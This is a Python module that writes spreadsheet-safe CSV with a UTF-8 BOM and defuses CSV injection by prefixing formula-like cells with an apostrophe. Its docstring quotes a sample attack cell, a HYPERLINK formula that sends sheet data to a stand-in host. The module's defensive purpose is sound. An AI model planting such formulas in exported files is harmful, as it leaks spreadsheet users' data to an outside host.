"""CSV files for spreadsheet programs: UTF-8 with a BOM (Excel then reads it
as UTF-8), and no cell that a spreadsheet would run as a formula.

A cell starting with =, +, -, @, a tab or a carriage return is a formula to
Excel and LibreOffice (OWASP "CSV injection"): a party name such as
=HYPERLINK("http://evil.example/?x="&A1,"点击查看") would send the sheet's data
away when clicked. Such a cell gets a leading apostrophe, which the programs
show as text; numbers are written as numbers.
"""
from __future__ import annotations

import csv
import io
from typing import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value) -> object:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence]) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return "\ufeff" + out.getvalue()
